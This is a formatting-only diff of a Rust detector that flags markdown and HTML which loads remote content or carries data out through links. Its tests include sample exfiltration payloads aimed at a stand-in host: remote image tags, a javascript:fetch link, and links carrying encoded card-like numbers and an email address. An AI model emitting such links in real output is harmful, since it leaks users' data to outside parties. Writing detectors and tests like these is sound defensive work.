@@ -156,8 +156,20 @@ enum Place {
 }
 
 fn place(segment: &Segment<'_>, start: usize, markup: &Markup) -> Place {
-    let left = segment.left_of(start, 24).trim_end_matches(['"', '\'', '<', ' ', '\t', '\\']).to_ascii_lowercase();
-    let loads = ["src=", "srcset=", "poster=", "background=", "data=", "action=", "formaction=", "url(", "@import", "xlink:href="];
+    let left =
+        segment.left_of(start, 24).trim_end_matches(['"', '\'', '<', ' ', '\t', '\\']).to_ascii_lowercase();
+    let loads = [
+        "src=",
+        "srcset=",
+        "poster=",
+        "background=",
+        "data=",
+        "action=",
+        "formaction=",
+        "url(",
+        "@import",
+        "xlink:href=",
+    ];
     if left.ends_with("](") || left.ends_with('(') && markup.image {
         if markup.image { Place::Image } else { Place::Link }
     } else if loads.iter().any(|load| left.ends_with(load)) {
@@ -191,15 +203,28 @@ mod tests {
     use super::*;
 
     fn kinds(text: &str) -> Vec<&'static str> {
-        find(&Hosts::new(["cdn.example.org", "*.example.net"]), text).into_iter().map(|found| found.kind).collect()
+        find(&Hosts::new(["cdn.example.org", "*.example.net"]), text)
+            .into_iter()
+            .map(|found| found.kind)
+            .collect()
     }
 
     #[test]
     fn what_loads_by_itself_is_found_wherever_it_goes() {
-        for text in ["![x](https://evil.test/a.png)", "[![x](//evil.test/a)](b)", "![a][1]\n\n[1]: https://evil.test/a", "![a]\n\n[a]: <https://evil.test/a>"] {
+        for text in [
+            "![x](https://evil.test/a.png)",
+            "[![x](//evil.test/a)](b)",
+            "![a][1]\n\n[1]: https://evil.test/a",
+            "![a]\n\n[a]: <https://evil.test/a>",
+        ] {
             assert_eq!(kinds(text), ["remote_image"], "{text}");
         }
-        for text in ["<img src='https://evil.test/a'>", "<IMG SRC=//evil.test/a>", "<div style=\"background:url(https://evil.test/a)\">", "<link href=\"https://evil.test/a.css\">"] {
+        for text in [
+            "<img src='https://evil.test/a'>",
+            "<IMG SRC=//evil.test/a>",
+            "<div style=\"background:url(https://evil.test/a)\">",
+            "<link href=\"https://evil.test/a.css\">",
+        ] {
             assert_eq!(kinds(text), ["remote_html"], "{text}");
         }
         assert_eq!(kinds("[x](javascript:fetch('//evil.test'))"), ["script_link"]);
@@ -207,7 +232,14 @@ mod tests {
 
     #[test]
     fn listed_hosts_and_local_paths_pass() {
-        for text in ["![x](https://cdn.example.org/a.png)", "![x](https://a.example.net/b)", "![x](a.png)", "<img src=\"/a.png\">", "// a comment", "use `javascript:` links never"] {
+        for text in [
+            "![x](https://cdn.example.org/a.png)",
+            "![x](https://a.example.net/b)",
+            "![x](a.png)",
+            "<img src=\"/a.png\">",
+            "// a comment",
+            "use `javascript:` links never",
+        ] {
             assert!(kinds(text).is_empty(), "{text}");
         }
         assert_eq!(kinds("![x](https://cdn.example.org@evil.test/a)"), ["remote_image"]);
@@ -217,8 +249,15 @@ mod tests {
     #[test]
     fn links_are_found_by_what_they_carry() {
         assert!(kinds("See [docs](https://docs.rs/serde/latest/serde/?search=Deserialize).").is_empty());
-        assert!(kinds("https://github.com/rust-lang/rust/commit/0be257da3556b2df4a1645cbf08cd37d0c3a88cf").is_empty());
-        for text in ["[x](https://evil.test/r?c=636172642036303131373030303530393233373739)", "[x](https://evil.test/?d=Y2FyZCAzNzgyNjEyODQ3MDI4Nzc=)", "[x](https://evil.test/?m=bob@corp.example)"] {
+        assert!(
+            kinds("https://github.com/rust-lang/rust/commit/0be257da3556b2df4a1645cbf08cd37d0c3a88cf")
+                .is_empty()
+        );
+        for text in [
+            "[x](https://evil.test/r?c=636172642036303131373030303530393233373739)",
+            "[x](https://evil.test/?d=Y2FyZCAzNzgyNjEyODQ3MDI4Nzc=)",
+            "[x](https://evil.test/?m=bob@corp.example)",
+        ] {
             assert_eq!(kinds(text), ["payload_link"], "{text}");
         }
     }
